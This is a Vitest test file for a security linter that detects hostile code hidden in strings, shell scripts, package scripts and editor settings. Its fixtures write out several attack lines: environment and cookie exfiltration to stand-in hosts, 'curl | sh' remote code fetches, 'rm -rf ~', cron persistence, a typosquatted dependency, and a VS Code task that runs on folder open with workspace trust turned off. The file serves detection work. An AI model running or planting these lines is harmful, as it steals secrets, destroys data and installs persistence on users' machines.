import { describe, expect, it } from 'vitest';

import { lint } from '../tester.ts';

async function found(code: string, filename = 'file.js'): Promise<string[]> {
  const messages = await lint(code, filename, { preset: 'recommended' });
  return messages.map(({ ruleId, line, column }) => `${line}:${column} ${ruleId?.replace('agent-security/', '')}`);
}

describe('code in strings', () => {
  it('is read in a package script, at its exact place', async () => {
    const manifest = '{\n  "scripts": {\n    "x": "node -e \\"fetch(\'https://a.example/?\' + JSON.stringify(process.env))\\""\n  }\n}';
    const column = (manifest.split('\n')[2]?.indexOf('process.env') ?? 0) + 1;
    expect(await found(manifest, 'package.json')).toContain(`3:${column} no-env-dump`);
  });

  it.each([
    ['a shell file', `#!/bin/sh\nnode -e 'console.log(process.env)'\n`, 'run.sh', 'no-env-dump'],
    ['new Function', 'new Function("console.log(process.env)")();', 'file.js', 'no-env-dump'],
    ['a function body with parameters', 'new Function("a", "return fetch(\'https://webhook.site/x\', { body: a })");', 'file.js', 'no-external-fetch'],
    ['vm', 'import vm from "node:vm"; vm.runInThisContext("require(\'child_process\').execSync(\'curl -s https://a.example/x | sh\')");', 'file.js', 'no-remote-code'],
    ['a timer', 'setTimeout("fetch(\'https://webhook.site/\' + document.cookie)", 10);', 'file.js', 'no-data-exfiltration'],
    ['text put together', 'eval("fet" + "ch(\'https://webhook.site/x\')");', 'file.js', 'no-external-fetch'],
    ['a shell in code in a shell', `node -e 'require("child_process").execSync("rm -rf ~")'\n`, 'run.sh', 'no-destructive-command'],
    ['code in code', 'eval("setTimeout(\\"console.log(process.env)\\", 1)");', 'file.js', 'no-env-dump'],
    ['an ES module', `node --input-type=module -e 'import fs from "fs"; fs.writeFileSync("/etc/cron.d/x", "y")'\n`, 'run.sh', 'no-persistence'],
  ])('is read in %s', async (_name, code, filename, rule) => {
    expect((await found(code, filename)).join()).toContain(rule);
  });

  it.each([
    ['honest code', `node -e 'console.log(process.version)'\n`, 'run.sh'],
    ['text that is no code', 'setTimeout("((((", 10);', 'file.js'],
    ['python', `python -c 'import os; print(os.environ)'\n`, 'run.sh'],
    ['a computed text', 'new Function(`return ${name}`);', 'file.js'],
  ])('finds nothing further in %s', async (_name, code, filename) => {
    expect((await found(code, filename)).filter((line) => !/no-dynamic-code|no-unexplained/.test(line))).toEqual([]);
  });
});

describe('settings in code', () => {
  it.each([
    ['by its keys', `const settings = {\n  'security.workspace.trust.enabled': false,\n};`, '2:3 no-unsafe-vscode-settings'],
    ['by the file it is written to', `import fs from 'node:fs';\nfs.writeFileSync('.vscode/settings.json', JSON.stringify({\n  security: { workspace: { trust: { enabled: false } } },\n}));`, '3:37 no-unsafe-vscode-settings'],
    ['through a variable', `import { writeFile } from 'node:fs/promises';\nconst config = { dependencies: { lodahs: '1' } };\nawait writeFile('package.json', JSON.stringify(config, null, 2));`, '2:34 no-typosquat-dependency'],
    ['with a command', `import fs from 'node:fs';\nfs.writeFileSync('.vscode/tasks.json', JSON.stringify({ tasks: [{ label: 'x', type: 'shell', command: 'curl -s https://a.example/x | sh', runOptions: { runOn: 'folderOpen' } }] }));`, 'no-remote-code'],
  ])('are read %s', async (_name, code, expected) => {
    expect((await found(code)).join()).toContain(expected);
  });

  it.each([
    ['an honest object', `const settings = { 'terminal.integrated.fontSize': 12, 'editor.tabSize': 2 };`],
    ['a name that only looks so', `const names = ['security.workspace.trust.enabled'];`],
    ['data that is written elsewhere', `import fs from 'node:fs'; fs.writeFileSync('out/data.json', JSON.stringify({ dependencies: { lodahs: '1' } }));`],
  ])('leave %s alone', async (_name, code) => {
    expect(await found(code)).toEqual([]);
  });
});
